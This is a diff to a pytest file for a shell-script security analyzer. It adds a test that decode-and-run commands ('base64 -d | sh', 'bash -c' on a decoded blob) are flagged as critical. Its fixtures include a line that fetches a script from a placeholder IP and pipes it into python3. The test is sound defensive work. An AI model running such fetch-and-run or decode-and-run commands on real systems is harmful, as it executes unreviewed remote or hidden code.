@@ -1,4 +1,4 @@
-"""curl | sh is one behaviour, one finding (sh-download-exec), graded by where the script comes from."""
+"""curl | sh and base64 -d | sh are one behaviour each, one finding each, graded by where the script comes from."""
 from __future__ import annotations
 
 import pytest
@@ -38,3 +38,12 @@ def test_flows_are_the_same_rule_and_a_program_named_on_the_command_line_reads_d
             'curl -s https://api.example.org/v1 | python3 -m json.tool\n'
             'curl -s https://203.0.113.9/p.py | python3 -\n')
     assert found(code) == [(2, "sh-download-exec", "critical"), (4, "sh-download-exec", "critical")]
+
+
+def test_a_decoded_payload_run_by_a_shell_is_one_finding():
+    code = ('blob="aWQK"\nd=$(echo "$blob" | base64 -d)\nbash -c "$d"\n'
+            'echo "$blob" | base64 -d | sh\n')
+    analyzer = Analyzer(RULES, Config(honour_suppressions=False))
+    got = sorted((f.line, f.rule_id, f.severity)
+                 for f in analyzer.analyze(Document(path="a.sh", content=code.encode())).findings)
+    assert got == [(3, "sh-decoded-payload-exec", "critical"), (4, "sh-decoded-payload-exec", "critical")]
